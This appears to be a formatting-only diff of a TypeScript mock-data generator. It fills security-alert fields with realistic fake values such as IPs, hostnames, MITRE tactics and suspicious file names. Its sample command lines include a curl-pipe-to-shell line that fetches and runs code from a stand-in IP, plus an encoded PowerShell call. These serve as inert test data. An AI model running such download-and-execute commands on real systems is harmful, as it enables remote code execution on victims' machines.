@@ -55,7 +55,12 @@ const TACTICS = [
   ["TA0008", "Lateral Movement", "T1021", "Remote Services"],
 ] as const;
 const FILES = ["invoice_0423.exe", "update.ps1", "svchost.exe", "setup.msi", "report.docm", "payload.dll"];
-const COMMANDS = ["cmd.exe /c whoami /all", "powershell.exe -enc SQBFAFgA", "rundll32.exe payload.dll,Start", "bash -c 'curl -s http://198.51.100.7/x | sh'"];
+const COMMANDS = [
+  "cmd.exe /c whoami /all",
+  "powershell.exe -enc SQBFAFgA",
+  "rundll32.exe payload.dll,Start",
+  "bash -c 'curl -s http://198.51.100.7/x | sh'",
+];
 
 function pad(n: number, width = 2): string {
   return String(n).padStart(width, "0");
@@ -99,7 +104,9 @@ function hostname(ctx: ValueContext): string {
 }
 
 const ipv4 = (r: Random, prv = true): string =>
-  prv ? `10.${r.int(0, 255)}.${r.int(0, 255)}.${r.int(1, 254)}` : `${r.pick(["198.51.100", "203.0.113", "192.0.2"])}.${r.int(1, 254)}`;
+  prv
+    ? `10.${r.int(0, 255)}.${r.int(0, 255)}.${r.int(1, 254)}`
+    : `${r.pick(["198.51.100", "203.0.113", "192.0.2"])}.${r.int(1, 254)}`;
 const mac = (r: Random): string => Array.from({ length: 6 }, () => r.hex(2)).join("-");
 
 /** A realistic string for a field, by its format first, then its name; undefined when neither says anything. */
@@ -136,20 +143,31 @@ export function stringValue(name: string, format: string | undefined, ctx: Value
   if (/(^|_)mac(_address)?$/.test(n)) return mac(r);
   if (/ip6$|ipv6/.test(n)) return `fd00::${r.hex(4)}:${r.hex(4)}`;
   if (/(^|_)(external|public|remote)_ip$/.test(n)) return ipv4(r, false);
-  if (/(^|_)(ip|ip4|ipv4|ip_address|local_ip|connection_ip|gateway_ip|default_gateway_ip|source_ip|destination_ip)$/.test(n)) return ipv4(r);
+  if (
+    /(^|_)(ip|ip4|ipv4|ip_address|local_ip|connection_ip|gateway_ip|default_gateway_ip|source_ip|destination_ip)$/.test(
+      n,
+    )
+  )
+    return ipv4(r);
   if (/(^|_)(hostname|host_name|computer_name|device_name)$/.test(n)) return hostname(ctx);
   if (/(^|_)(machine_)?domain$/.test(n)) return "corp.example.com";
   if (/^platform(_name)?$/.test(n)) return platform(ctx);
   if (n === "platform_id") return PLATFORM_IDS[platform(ctx)];
   if (/^os_(version|product_name)$/.test(n)) return r.pick(OS_VERSIONS[platform(ctx)]!);
   if (/(^|_)(agent|sensor)_version$|^(product_)?version$/.test(n)) return `7.${r.int(10, 22)}.${r.int(16000, 19999)}.0`;
-  if (/(^|_)(timestamp|time|date|seen|at|on)$|^(created|modified|updated|deleted)(_\w+)?$|(^|_)(start|end)(_time)?$|last_reboot/.test(n) && !/(^|_)(by|zone|offset|format|type|status)$/.test(n)) {
+  if (
+    /(^|_)(timestamp|time|date|seen|at|on)$|^(created|modified|updated|deleted)(_\w+)?$|(^|_)(start|end)(_time)?$|last_reboot/.test(
+      n,
+    ) &&
+    !/(^|_)(by|zone|offset|format|type|status)$/.test(n)
+  ) {
     return isoDate(recentMs(n, ctx));
   }
   if (/(^|_)(email|uid|user_email|login)$/.test(n)) return email(ctx);
   if (n === "first_name") return capital(person(ctx)[0]);
   if (n === "last_name") return capital(person(ctx)[1]);
-  if (/(^|_)(user_?name|user|username|last_login_user|logon_user)$/.test(n)) return `${person(ctx)[0][0]}${person(ctx)[1]}`;
+  if (/(^|_)(user_?name|user|username|last_login_user|logon_user)$/.test(n))
+    return `${person(ctx)[0][0]}${person(ctx)[1]}`;
   if (/(^|_)(uuid|user_uuid)$/.test(n)) return r.uuid();
   if (/(^|_)(url|uri|link|href)$/.test(n)) return `https://falcon.crowdstrike.com/${n.replace(/_/g, "-")}/${r.hex(8)}`;
   if (/^(status|state)$/.test(n)) return r.pick(STATUSES[service(ctx)] ?? STATUSES.default!);
@@ -159,12 +177,14 @@ export function stringValue(name: string, format: string | undefined, ctx: Value
   if (n === "technique_id") return tactic(ctx)[2];
   if (n === "technique") return tactic(ctx)[3];
   if (/(^|_)(file_?name|image_file_name)$/.test(n)) return r.pick(FILES);
-  if (/(^|_)(file_?path|path)$/.test(n)) return `\\Device\\HarddiskVolume3\\Users\\${person(ctx)[0]}\\Downloads\\${r.pick(FILES)}`;
+  if (/(^|_)(file_?path|path)$/.test(n))
+    return `\\Device\\HarddiskVolume3\\Users\\${person(ctx)[0]}\\Downloads\\${r.pick(FILES)}`;
   if (/(^|_)(cmdline|command_line|command)$/.test(n)) return r.pick(COMMANDS);
   if (/(^|_)country$/.test(n)) return r.pick(["United States", "Germany", "Japan", "Brazil"]);
   if (/(^|_)country_code$/.test(n)) return r.pick(["US", "DE", "JP", "BR"]);
   if (/(^|_)(id|ids)$/.test(n)) return r.hex(32);
-  if (/(^|_)(description|comment|comments|summary|note|notes)$/.test(n)) return `${capital(n.replace(/_/g, " "))} for ${hostname(ctx)}`;
+  if (/(^|_)(description|comment|comments|summary|note|notes)$/.test(n))
+    return `${capital(n.replace(/_/g, " "))} for ${hostname(ctx)}`;
   if (/(^|_)name$/.test(n)) return `${capital(n.replace(/_?name$/, "").replace(/_/g, " ") || "item")} ${r.hex(4)}`;
   return `${n}-${r.hex(6)}`;
 }
